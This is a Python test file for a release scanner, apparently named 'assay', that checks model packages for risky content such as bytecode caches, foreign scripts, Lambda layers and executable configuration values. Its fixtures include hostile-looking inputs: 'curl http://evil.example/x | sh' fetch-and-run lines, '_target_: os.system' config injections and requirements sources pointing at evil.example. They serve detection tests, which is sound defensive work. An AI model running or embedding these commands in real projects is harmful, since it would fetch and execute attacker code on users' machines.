"""What no name announces, judged from bytes to findings."""

from __future__ import annotations

from dataclasses import replace

import pytest

from assay.assess.check import CheckSubject
from assay.assess.registry import CHECKS
from assay.assess.runner import run_checks
from assay.domain.facts import WHOLE_RELEASE, Gap
from assay.domain.finding import Severity
from assay.domain.limits import DEFAULT_LIMITS
from assay.release.inspect import inspect_release
from assay.release.inspection import inspect_source
from assay.release.source import BytesSource
from benchmarks.detection.families import commands_anywhere, settings_anywhere
from benchmarks.detection.sample import Truth

# Every release in a test lacks these, and they have tests of their own.
_ABOUT_CARDS = {"model-card", "licence-declared", "provenance-declared"}
SAMPLES = [*commands_anywhere.samples(), *settings_anywhere.samples()]


# Apart: no file of the project names where packages come from.
INDEX = "index-url"


def findings(folder, files, *, cards=False):
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data.encode() if isinstance(data, str) else data)
    seen = inspect_release(folder)
    subject = CheckSubject(inventory=seen.inventory, facts=seen.facts)
    return [
        finding
        for report in run_checks(CHECKS, subject)
        for finding in report.findings
        if cards or report.check not in _ABOUT_CARDS
    ]


def rules(folder, files):
    return {finding.rule for finding in findings(folder, files)}


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda s: f"{s.family}-{s.name}")
def test_every_sample_is_judged_as_what_it_is(tmp_path, sample):
    worst = max(
        (finding.severity.rank for finding in findings(tmp_path, sample.files)),
        default=-1,
    )
    if sample.truth is Truth.HOSTILE:
        assert worst >= Severity.HIGH.rank
    else:
        assert worst <= Severity.LOW.rank


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-32-le"])
def test_json_in_a_wide_encoding_is_read_and_said_to_be_in_it(tmp_path, encoding):
    text = '{"model_type": "llama"}'
    (found,) = findings(tmp_path, {"config.json": text.encode(encoding)})
    assert (found.rule, found.severity) == ("wide-encoding", Severity.MEDIUM)
    assert encoding.split("-le")[0].upper()[:6] in found.message


def test_numbers_that_look_like_letters_between_zeros_are_no_text(tmp_path):
    numbers = b"".join(n.to_bytes(2, "little") for n in (40, 60, 70, 80) * 20)
    assert "unknown-not-inspected" in rules(tmp_path, {"tokens.bin": numbers})


@pytest.mark.parametrize(
    "data",
    [
        b'\xff\xfe{\x00"\x00\x00\xd8',
        b'{\x00"\x00a\x00\x07\x00',
        b"{\x00\x00\x00\xff\xff\xff\xff",
        "plain letters".encode("utf-16-le"),
    ],
)
def test_what_is_broken_in_a_wide_encoding_is_no_text(tmp_path, data):
    assert "unknown-not-inspected" in rules(tmp_path, {"a": data})


def test_a_wide_text_beyond_what_a_file_may_expand_to_is_a_gap():
    file = inspect_source(
        BytesSource('{"a": 1}'.encode("utf-16")),
        path="a.json",
        executable_bit=False,
        limits=replace(DEFAULT_LIMITS, max_inflated_bytes=4),
        paths=frozenset({"a.json"}),
    )
    (gap,) = [fact for fact in file.facts if isinstance(fact, Gap)]
    assert gap.bound == "inflated"


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("-r ftp://evil.example/r.txt", "plain-http"),
        ("-c https://evil.example/c.txt", "unknown-host"),
        ("-r https://github.com/a/b/raw/main/r.txt", "direct-address"),
        (f"-r https://raw.githubusercontent.com/a/b/{'a' * 40}/r.txt", None),
        ("-r file:" + "///etc/r.txt", "path-outside"),
        ("-r ../r.txt", None),
        ("--no-index", None),
        ("--trusted evil.example", "unchecked-host"),
        ("--no- x", None),
        ("-- x", None),
    ],
)
def test_where_lists_of_requirements_come_from_is_judged(tmp_path, line, rule):
    found = rules(tmp_path, {"requirements.txt": f"{line}\n"}) - {"movable-reference"}
    assert found == ({rule} if rule else set())


def test_a_comment_on_its_own_line_joins_nothing(tmp_path):
    text = f"# a \\\n--{INDEX} http://evil.example/s\n"
    assert "plain-http" in rules(tmp_path, {"requirements.txt": text})


def test_lines_that_go_on_to_the_end_are_read(tmp_path):
    text = f"a==1\n--{INDEX} \\\nhttp://evil.example/s \\"
    assert "plain-http" in rules(tmp_path, {"requirements.txt": text})


def cache(folder, *, flags=b"\0\0\0\0", marker=b"x"):
    code = b"\xa7\x0d\r\n" + flags + bytes(8) + b"\xe3" + bytes(24) + marker
    names = ("a", "b", "c")
    files = {f"pkg/__pycache__/{n}.cpython-311.pyc": code for n in names}
    return findings(folder, files | {f"pkg/{n}.py": "x = 1\n" for n in ("a", "b")})


def test_a_cache_beside_its_sources_is_one_finding_and_the_stranger_another(tmp_path):
    found = [f for f in cache(tmp_path) if f.rule == "python-bytecode"]
    assert [f.severity for f in found] == [Severity.HIGH, Severity.HIGH]
    folded, alone = sorted(found, key=lambda f: f.place.path)
    assert folded.place.path == "pkg/__pycache__/a.cpython-311.pyc"
    assert folded.message.startswith("2 files of compiled Python")
    assert "not compared" in folded.message
    assert "runs without source" in alone.message


def test_other_content_of_a_cache_makes_another_finding(tmp_path):
    ids = {
        finding.id
        for number, marker in enumerate((b"x", b"y"))
        for finding in cache(tmp_path / str(number), marker=marker)
        if finding.message.startswith("2 files")
    }
    assert len(ids) == 2


def test_one_compiled_file_beside_its_source_says_what_to_do(tmp_path):
    code = b"\xa7\x0d\r\n" + bytes(12) + b"\xe3" + bytes(24)
    held = {"__pycache__/a.cpython-311.opt-1.pyc": code, "a.py": "x = 1\n"}
    (found,) = [f for f in findings(tmp_path, held) if f.rule == "python-bytecode"]
    assert "not compared" in found.message


def test_what_is_about_the_whole_release_has_one_place(tmp_path):
    found = findings(tmp_path, {"a.json": "{}"}, cards=True)
    assert {str(f.place) for f in found} == {WHOLE_RELEASE}


@pytest.mark.parametrize(
    ("page", "rule"),
    [
        ("<script src='//evil.example/x.js'></script>", "foreign-script"),
        ("<script src='https://cdn.jsdelivr.net/gh/a/b'></script>", "foreign-script"),
        ("<script src='http://evil.example/x.js'></script>", "unencrypted-script"),
        ("<script src='https://unpkg.com/x.js'></script>", "active-content"),
        ("<script>1</script>", "active-content"),
    ],
)
def test_a_page_is_judged_by_where_its_scripts_come_from(tmp_path, page, rule):
    assert rules(tmp_path, {"a.html": page}) == {rule}


def test_a_lambda_layer_is_called_by_its_name(tmp_path):
    text = (
        '{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", '
        '"config": {"code": "4wEAAAAAAAAA"}}}}'
    )
    (found,) = [
        f for f in findings(tmp_path, {"a.json": text}) if f.check == "built-objects"
    ]
    assert "Lambda layer" in found.message


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.conf", "[handlers]\nkeys=h\n[handler_h]\nargs=(lambda: 1)()\n"),
        ("a.conf", "[handlers]\n[handler_h]\nargs=__import__('os'\n"),
        ("a.conf", "[handlers]\n[handler_h]\nkwargs={'a': [b for b in c]}\n"),
        ("a.conf", "[handlers]\n[handler_h]\nargs=(x.__class__,)"),
        ("big", "_target_: os.system\n" + "# \n" * 400_000),
        ("a.cfg", "x: [\n_target_: os.system\n"),
        ("a.json", '{"_target_": "os.system" "x"'),
        ("a", '{"a": "_target_"}\n{"_target_": "os.system"\n{"_target_": "os.system"}'),
        ("l.json", '{"logging": {"handlers": {"h": {"class": "os.system"}}}}'),
        ("Modelfile", "FROM a\nADAPTER ../../x\n"),
        ("a.sql", "-- x\n\\! curl http://evil.example/x \\\n | sh\n"),
        ("a.md", "```{bash}\n~~~\ncurl http://evil.example/x | sh\n"),
    ],
)
def test_what_runs_is_found_in_odd_forms(tmp_path, path, text):
    worst = max(f.severity.rank for f in findings(tmp_path, {path: text}))
    assert worst >= Severity.HIGH.rank


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.txt", "_target_ = os.system is what nobody should write: [\n"),
        ("a.conf", "[handlers]\nkeys=h\n[handler_h]\nclass=StreamHandler\nargs=()\n"),
        ("a.json5", "{a: '_target_'}"),
        ("a.md", "```{r}\n1\n```\n```\ncurl http://evil.example/x | sh\n```\n"),
        ("a.cpp", "// curl http://evil.example/x | sh\n"),
        ("a.json", '{"handlers": {"h": 1, "i": {"class": "X", "n": 1}}}'),
    ],
)
def test_what_only_looks_alike_stays_low(tmp_path, path, text):
    found = findings(tmp_path, {path: text})
    assert all(f.severity.rank <= Severity.LOW.rank for f in found)
